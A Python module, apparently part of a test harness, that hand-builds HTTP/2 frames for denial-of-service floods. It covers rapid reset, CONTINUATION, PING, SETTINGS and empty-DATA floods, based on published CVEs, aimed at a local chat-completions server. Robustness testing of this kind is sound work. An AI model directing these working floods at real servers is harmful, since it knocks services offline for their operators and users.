"""HTTP/2 of a caller who means harm: endless streams of frames, made by hand because no library would send them.

Each kind is a generator: first the connection's preface, then one frame, or one pair, after another.
Sources: RFC 9113 §4 to §6; the floods of CVE-2019-9511 to 9518, of CVE-2023-44487 and of CVE-2024-27316 and its like.
"""

import wire

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM = ACK = 1
END_HEADERS = 4
CANCEL = 8


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def field(name, value):
    """A literal field that nobody has to remember (RFC 7541 §6.2.2)."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def head(length):
    fields = {
        b":method": b"POST", b":scheme": b"http", b":path": b"/v1/chat/completions", b":authority": b"bench.localhost",
        b"content-type": b"application/json", b"content-length": str(length).encode(),
    }
    return b"".join(field(name, value) for name, value in fields.items())


def begun():
    return PREFACE + frame(SETTINGS, 0, 0)


def rapid_reset(_dice):
    """Whole requests, each taken back at once."""
    yield begun()
    stream = 1
    while stream < 2**31:
        body = wire.ask(f"h{stream:09d}", True, 300)
        yield (
            frame(HEADERS, END_HEADERS, stream, head(len(body)))
            + frame(DATA, END_STREAM, stream, body)
            + frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4, "big"))
        )
        stream += 2


def continuation(dice):
    """A head that never ends."""
    yield begun() + frame(HEADERS, 0, 1, head(2))
    while True:
        yield frame(CONTINUATION, 0, 1, field(b"x-%06d" % dice.randrange(10**6), b"v" * 100))


def ping(dice):
    yield begun()
    while True:
        yield frame(PING, 0, 0, dice.randbytes(8))


def settings(dice):
    yield begun()
    while True:
        yield frame(SETTINGS, 0, 0, b"\x00\x04" + dice.randrange(1, 65536).to_bytes(4, "big"))


def small_data(_dice):
    """A body of empty pieces."""
    yield begun() + frame(HEADERS, END_HEADERS, 1, head(1 << 20))
    while True:
        yield frame(DATA, 0, 1)


FLOODS = {made.__name__: made for made in (rapid_reset, continuation, ping, settings, small_data)}
